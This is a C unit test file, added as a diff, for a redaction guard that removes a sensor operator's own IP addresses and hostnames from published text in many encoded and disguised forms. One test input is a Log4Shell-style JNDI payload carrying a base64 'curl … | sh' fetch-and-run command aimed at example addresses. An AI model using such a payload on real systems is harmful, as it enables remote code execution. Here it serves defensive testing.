@@ -1,0 +1,261 @@
+/*
+ * test_guard.c - what belongs to the operator is cut, however an attacker wrote it, and nothing else.
+ *
+ * SPDX-License-Identifier: MIT
+ */
+#include <ctype.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+#include "common/text.h"
+#include "publisher/guard.h"
+#include "tests/unit/tap.h"
+
+static struct guard *
+sensors(void)
+{
+	static const char *const VALUES[] = { "203.0.113.10", "2001:db8:5::10",
+		"my-sensor", "tp", "Lab.Example.org", "" };
+	struct err e = ERR_NONE;
+	struct guard *g = guard_new(&e);
+
+	for (size_t i = 0; i < sizeof VALUES / sizeof VALUES[0]; i++)
+		guard_add(g, VALUES[i], &e);
+	return g;
+}
+
+/* The text as it leaves; want NULL: unchanged. */
+static void
+check(struct guard *g, const char *text, const char *want, const char *words)
+{
+	auto_buf out = BUF_INIT(4096);
+
+	guard_has_cut(g);
+	guard_pass(g, text, 2048, &out);
+	is_text(buf_text(&out), want != NULL ? want : text, words);
+	ok(guard_has_cut(g) == (want != NULL), "... and the guard knows whether it cut");
+}
+
+static void
+test_addresses(struct guard *g)
+{
+	check(g, "203.0.113.10", "***", "an address");
+	check(g, "http://203.0.113.10:80/x", "http://***:80/x", "... in a URL");
+	check(g, "ip203.0.113.10x", "ip***x", "... between letters");
+	check(g, "203.000.113.010", "***", "... with leading zeros");
+	check(g, "a 203.0.113.10 b 203.0.113.10", "a *** b ***", "... twice");
+	check(g, "203-0-113-10.isp.example", "***.isp.example", "dashed");
+	check(g, "ec2-203-0-113-10.example", "***.example", "... the whole label goes");
+	check(g, "203_0_113_10", "***", "underlined");
+	check(g, "203[.]0[.]113[.]10", "***", "defanged");
+	check(g, "http://3405803786/x", "http://***/x", "decimal");
+	check(g, "0xCB00710A", "***", "hexadecimal");
+	check(g, "0xcb00710a", "***", "... in small letters");
+	check(g, "CB00710A", "***", "... without a mark");
+	check(g, "0xCB.0x00.0x71.0x0A", "***", "dotted hexadecimal");
+	check(g, "cb.00.71.0a", "***", "... without marks");
+	check(g, "031300070412", "***", "octal");
+	check(g, "0313.0.0161.012", "***", "dotted octal");
+	check(g, "0313.0x0.113.012", "***", "mixed");
+	check(g, "10.113.0.203", "***", "reversed");
+	check(g, "10.113.0.203.in-addr.arpa", "***.in-addr.arpa", "... as in DNS");
+	check(g, "175177931", "***", "reversed, decimal");
+	check(g, "0x0a7100cb", "***", "reversed, hexadecimal");
+	check(g, "01.311.0.302", "***", "spelled backwards");
+	check(g, "%32%30%33%2e%30%2e%31%31%33%2e%31%30", "***", "percent-encoded");
+	check(g, "?a=203%2E0%2E113%2E10&b", "?a=***&b", "... in part");
+	check(g, "203%252e0%252e113%252e10", "***", "... twice");
+}
+
+static void
+test_base64(struct guard *g)
+{
+	check(g, "MjAzLjAuMTEzLjEw", "***", "base64");
+	check(g, "MjAzLjAuMTEzLjEwPz5+", "***", "base64, first alignment");
+	check(g, "eDIwMy4wLjExMy4xMD8+fg==", "***", "... second alignment, padded");
+	check(g, "eDIwMy4wLjExMy4xMD8-fg", "***", "... of the other alphabet, without");
+	check(g, "eHkyMDMuMC4xMTMuMTA/Pn4=", "***/Pn4=", "... third alignment");
+	check(g, "eHkyMDMuMC4xMTMuMTA_Pn4", "***", "... of the other alphabet");
+	check(g,
+	    "${jndi:ldap://198.51.100.9/Basic/Command/Base64/"
+	    "Y3VybCAyMDMuMC4xMTMuMTA6ODA4MC94fHNo}",
+	    "${jndi:ldap://198.51.100.9/Basic/Command/Base64/***}",
+	    "a command in base64, without the path before it");
+	check(g, "aMjAzLjAuMTEzLjEw", "***", "... after a letter that shifts it");
+	check(g, "q=MjAzLjAuMTEzLjEwOjE%3D&x", "q=***&x",
+	    "... with its padding percent-encoded");
+	check(g, "TWpBekxqQXVNVEV6TGpFdw==", "***", "base64 of base64");
+	check(g, "MjAzJTJlMC4xMTMuMTA=", "***", "base64 of percent-encoding");
+	check(g, "MHhDQjAwNzEwQQ==", "***", "base64 of hexadecimal");
+	check(g, "WzIwMDE6REI4OjU6OjEwXQ==", "***", "base64 of IPv6");
+	check(g, "bXktc2Vuc29y", "***", "base64 of a name");
+	check(g, "x/YXQgTVktU2Vuc29yIG5vdw==", "x/***", "... in any case, in a sentence");
+}
+
+static void
+test_ipv6(struct guard *g)
+{
+	check(g, "2001:db8:5::10", "***", "IPv6");
+	check(g, "http://[2001:DB8:5:0:0::10]:8080/", "http://[***]:8080/",
+	    "... in another form");
+	check(g, "2001:0db8:0005:0000:0000:0000:0000:0010", "***", "... in full");
+	check(g, "addr:2001:db8:5::10.", "addr:***.", "... in a sentence");
+	check(g, "2001:db8:5::10%eth0", "***%eth0", "... with a zone");
+	check(g, "2001%3Adb8%3A5%3A%3A10", "***", "... percent-encoded");
+	check(g, "20010db8000500000000000000000010", "***", "... as digits");
+	check(g,
+	    "0.1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.5.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
+	    "***.ip6.arpa", "... reversed, as in DNS");
+	check(g, "[::ffff:203.0.113.10]", "[***]", "v4-mapped");
+	check(g, "::ffff:cb00:710a", "***", "... in hexadecimal");
+	check(g, "64:ff9b::cb00:710a", "***", "translated");
+	check(g, "2002:cb00:710a::1", "***", "tunnelled");
+}
+
+static void
+test_names(struct guard *g)
+{
+	check(g, "my-sensor", "***", "a name");
+	check(g, "/MY-Sensor.sh", "/***.sh", "... in any case");
+	check(g, "x_my-sensor_y", "x_***_y", "... between marks");
+	check(g, "lab.example.ORG.", "***.", "... with dots");
+	check(g, "%6d%79%2d%73%65%6e%73%6f%72", "***", "... percent-encoded");
+	check(g, "my%2Dsensor", "***", "... in part");
+	check(g, "rosnes-ym", "***", "... backwards");
+	check(g, "tp://x", "***://x", "a short one");
+}
+
+static void
+test_others(struct guard *g)
+{
+	static const char *const KEPT[] = { "", "203.0.113.100", "203.0.113.1",
+		"1203.0.113.10", "203.0.113", "203.0-113.10", "34058037860", "3405803787",
+		"CB00710AF", "aCB00710A0", "2001:db8:5::11", "2001:db8:5::1",
+		"20010db80005000000000000000000101", "my-sensors", "amy-sensor",
+		"\xc3\xa9my-sensor", "http://x.example/bins/arm7",
+		"MjAzLjAuMTEzLjEwNQ==", "MjAzLjAuMTEzLjEx", "http", "100% of 5", "%zz%4",
+		"::::::::::",
+		"15a0c0ffee0123456789abcdef0123456789abcdef0123456789abcdef012345", "99",
+		"10.5", "日本語" };
+
+	for (size_t i = 0; i < sizeof KEPT / sizeof KEPT[0]; i++)
+		check(g, KEPT[i], NULL, "what is not private stays");
+	check(g, "1203.0.113.10 203.0.113.10", "1203.0.113.10 ***", "... beside what is");
+}
+
+static void
+test_limits(struct guard *g)
+{
+	auto_buf out = BUF_INIT(4096);
+	char text[GUARD_TEXT_MAX * 2];
+
+	memset(text, 'z', sizeof text);
+	memcpy(text + GUARD_TEXT_MAX - 4, "203.0.113.10", 13);
+	guard_pass(g, text, GUARD_TEXT_MAX, &out);
+	is_int((int64_t)out.len, GUARD_TEXT_MAX, "a text is cut at its limit");
+	buf_reset(&out);
+	guard_pass(g, "ab\xe2\x82\xac", 4, &out);
+	is_text(buf_text(&out), "ab", "... not in the middle of a character");
+	buf_reset(&out);
+	guard_pass(g,
+	    "a\xff"
+	    "b",
+	    100, &out);
+	is_text(buf_text(&out),
+	    "a\xef\xbf\xbd"
+	    "b",
+	    "what is not UTF-8 is replaced");
+	buf_reset(&out);
+	guard_pass(NULL, "203.0.113.10", 100, &out);
+	is_text(buf_text(&out), "203.0.113.10", "without a guard nothing is private");
+	guard_reset(g);
+	check(g, "203.0.113.10 my-sensor", NULL, "nor after it forgot");
+}
+
+/* ---- anything at all */
+
+static uint32_t dice = 12345;
+
+static uint32_t
+roll(uint32_t sides)
+{
+	dice = dice * 1664525 + 1013904223;
+	return (dice >> 8) % sides;
+}
+
+/* Whether the word stands in the text with no letter or digit beside it. */
+static bool
+stands_alone(const char *text, const char *word)
+{
+	size_t len = strlen(word);
+
+	for (const char *p = text; (p = strstr(p, word)) != NULL; p++) {
+		unsigned char before = p > text ? (unsigned char)p[-1] : ' ';
+		unsigned char after = (unsigned char)p[len];
+
+		if (!isalnum(before) && before < 0x80 && !isalnum(after) && after < 0x80)
+			return true;
+	}
+	return false;
+}
+
+/* Pieces that lead into every decoder, and noise; whatever comes out is UTF-8 and free of both. */
+static void
+test_noise(struct guard *g)
+{
+	static const char *const PIECES[] = { "203.0.113.10", "203", ".", "%", "%3",
+		"%32", "0x", "::", "2001:db8:", "my-", "sensor", "MjAz", "LjAu", "=",
+		"\xe2\x82", "\xff", "-", "113", "0", "10", "[.]", "cb00710a", "/", "_" };
+	bool whole = true, silent = true;
+
+	for (int round = 0; round < 3000; round++) {
+		auto_buf text = BUF_INIT(4096), out = BUF_INIT(4096);
+
+		for (uint32_t n = roll(40); n > 0; n--)
+			if (roll(4) > 0)
+				buf_puts(&text,
+				    PIECES[roll(sizeof PIECES / sizeof PIECES[0])]);
+			else
+				buf_putc(&text, (char)(1 + roll(255)));
+		guard_pass(g, buf_text(&text), GUARD_TEXT_MAX, &out);
+		whole = whole && utf8_valid(buf_text(&out), out.len);
+		silent = silent && !stands_alone(buf_text(&out), "203.0.113.10") &&
+			 !stands_alone(buf_text(&out), "my-sensor");
+	}
+	ok(whole, "noise of every kind passes whole");
+	ok(silent, "... and without what is private");
+}
+
+/* A thousand addresses, learned over years. */
+static void
+test_many(void)
+{
+	struct err e = ERR_NONE;
+	struct guard *g = guard_new(&e);
+	char address[32];
+
+	for (int i = 0; i < 1000; i++) {
+		snprintf(address, sizeof address, "198.51.%d.%d", (i * 7) % 250, i % 250);
+		guard_add(g, address, &e);
+	}
+	check(
+	    g, "198.51.7.1 198.51.7.2", "*** 198.51.7.2", "one of a thousand addresses");
+	guard_free(g);
+}
+
+int
+main(void)
+{
+	struct guard *g = sensors();
+
+	test_addresses(g);
+	test_base64(g);
+	test_ipv6(g);
+	test_names(g);
+	test_others(g);
+	test_noise(g);
+	test_limits(g);
+	test_many();
+	guard_free(g);
+	return done_testing();
+}
